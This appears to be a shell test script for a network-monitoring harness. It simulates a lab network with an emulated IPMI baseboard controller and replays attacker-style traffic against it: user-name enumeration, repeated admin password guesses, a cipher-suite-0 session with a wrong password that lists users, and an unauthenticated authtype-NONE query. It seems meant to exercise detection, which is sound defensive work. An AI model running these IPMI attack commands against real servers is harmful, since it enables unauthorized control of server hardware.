# IPMI as attackers use it: user names tried one after the other, then a session without any cipher.
# programs: ipmi_sim ipmitool
. "$here/ipmi.sh"

wire wire
machine mgmt-01 52:54:00:74:00:10 10.74.0.10/24
machine lap-01 52:54:00:74:00:77 10.74.0.77/24
record
machine bmc-01 d0:94:66:74:00:21 10.74.0.21/24
ipmi_on bmc-01 10.74.0.21
say "mgmt-01 asks as it does each day: cipher suite 3"
on mgmt-01 ipmitool -I lanplus -C 3 -H 10.74.0.21 -U admin -P "$password" mc info >/dev/null || fail "ipmitool: $?"
sleep 3
say "10.74.0.77 tries eight user names that do not exist, and admin with a wrong password twice"
for user in root ADMIN Administrator USERID operator monitor guest test; do
  on lap-01 ipmitool -I lanplus -N 1 -R 1 -C 3 -H 10.74.0.21 -U "$user" -P guess mc info >/dev/null 2>&1 || true
done
for try in 1 2; do
  on lap-01 ipmitool -I lanplus -N 1 -R 1 -C 3 -H 10.74.0.21 -U admin -P guess mc info >/dev/null 2>&1 || true
done
say "10.74.0.77 opens a session with cipher suite 0 and a wrong password, and lists the users"
on lap-01 ipmitool -I lanplus -N 1 -R 1 -C 0 -H 10.74.0.21 -U admin -P guess mc info >"$state/cipher0" 2>&1 \
  || say "ipmitool -C 0 mc info: $(tail -1 "$state/cipher0")"
on lap-01 ipmitool -I lanplus -N 1 -R 1 -C 0 -H 10.74.0.21 -U admin -P guess user list 1 >"$state/users" 2>&1 || true
on lap-01 ipmitool -I lan -A NONE -N 1 -R 1 -H 10.74.0.21 -U admin chassis power status >"$state/none" 2>&1 || true
say "cipher suite 0: $(wc -l <"$state/cipher0") lines of answer"
